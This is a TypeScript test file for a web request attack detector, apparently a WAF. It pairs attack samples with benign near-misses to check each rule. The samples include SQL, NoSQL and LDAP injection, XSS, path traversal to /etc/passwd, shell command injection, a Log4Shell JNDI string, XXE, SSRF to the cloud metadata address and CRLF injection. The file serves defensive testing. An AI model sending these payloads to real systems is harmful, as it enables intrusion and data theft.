// SPDX-License-Identifier: Apache-2.0

import assert from 'node:assert/strict'
import { test } from 'node:test'
import { decodeRequest } from './decode/request.ts'
import { openRequestRules } from './open-judge.ts'
import { contextOfJson, type JsonContext } from './wire/json-context.ts'

const { detector, problems } = openRequestRules()

type Given = Omit<Partial<JsonContext>, 'address'>
const q = (text: string): Given => ({ url: `/?q=${encodeURIComponent(text)}` })
const at = (url: string): Given => ({ url })
const by = (agent: string): Given => ({ headers: [['User-Agent', agent]] })
const upload = (filename: string): Given => ({
  method: 'POST',
  headers: [['Content-Type', 'multipart/form-data; boundary=x']],
  body: `--x\r\nContent-Disposition: form-data; name="f"; filename="${filename}"\r\n\r\na\r\n--x--\r\n`,
})

/** What fires each rule, and what is nearly that. */
const samples: Readonly<Record<number, readonly [fires: Given, silent: Given]>> = {
  7000110: [q("x' OR '1'='1"), q("O'Brien")],
  7000120: [q("x'; drop table users"), q('drop a table; select one')],
  7000125: [q('1 order by 12--'), q('order by phone')],
  7000130: [at('/?user[$ne]=1'), at('/?price[ne]=1&$top=3')],
  7000210: [q('<img src=x onerror=alert(1)>'), q('<b>bold</b>')],
  7000220: [q('<script>alert(1)</script>'), q('<p>a script</p>')],
  7000230: [q('confirm(document.domain)'), q('please confirm (the location)')],
  7000310: [q('../../x'), q('../x')],
  7000320: [q('x=/etc/passwd'), q('/etc/motd of mine')],
  7000330: [q('/etc/httpd/conf.d/ssl.conf'), q('where is /etc/httpd/conf.d?')],
  7000335: [at('//etc/rpc'), at('/etc/designs/shop.css')],
  7000340: [at('/a/.git/config'), at('/.well-known/security.txt')],
  7000350: [q('%c0%ae%c0%ae%c0%afboot.ini'), q('<a href="../b.html">')],
  7000355: [at('/?q=%c0%ae%c0%ae%c0%afetc'), at('/?q=%c0%ee%c0%ee')],
  7000410: [q('x; cat /tmp/a'), q('| id | name |\n\n  id\n  name')],
  7000415: [q('x & net user a /add'), q('net user experience & more')],
  7000420: [q(`\${jndi:ldap://203.0.113.9/a}`), q(`\${name}`)],
  7000430: [q('<?php echo 1;'), q('<?xml version="1.0"?>')],
  7000440: [q('{{7*7}}'), q('{{ user.name }}')],
  7000450: [q('O:8:"stdClass":0:{}'), q('O:8: eight')],
  7000510: [q('<!ENTITY x SYSTEM "file:///x">'), q('<!ENTITY nbsp "&#160;">')],
  7000520: [q('http://169.254.169.254/latest/'), q('http://localhost:3000/callback')],
  7000530: [q('x\r\nSet-Cookie: a=b'), q('x\r\nCookies: two')],
  7000540: [q('<!--#exec cmd="ls" -->'), q('<!-- #7 is done -->')],
  7000550: [q('*)(uid=*)'), q('f(x)(y)')],
  7000610: [upload('a.php'), upload('a.php-notes.txt')],
  7000710: [at('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'), at('/actuator/health')],
  7000720: [by('sqlmap/1.7#stable'), by('Mozilla/5.0 (compatible; mapbot/1.0)')],
}

function firedBy(given: Given): ReadonlySet<number> {
  const context = contextOfJson({ method: 'GET', url: '/', address: '192.0.2.1', ...given })
  const { evidence } = detector({ context, decoded: decodeRequest(context), timeNs: 0n })
  return new Set(evidence.map(({ what }) => Number(/^rule (\d+)/.exec(what)?.[1])))
}

test('DET-1 every basic rule fires for its sample, and not for what is nearly that', () => {
  assert.deepEqual(problems, [])
  const told = Object.entries(samples).map(([id, [fires, silent]]) => [
    id,
    firedBy(fires).has(Number(id)),
    firedBy(silent).has(Number(id)),
  ])
  assert.deepEqual(
    told,
    Object.keys(samples).map((id) => [id, true, false]),
  )
})

test('DET-1 every basic rule has a sample', () => {
  assert.equal(openRequestRules().rules, Object.keys(samples).length)
})
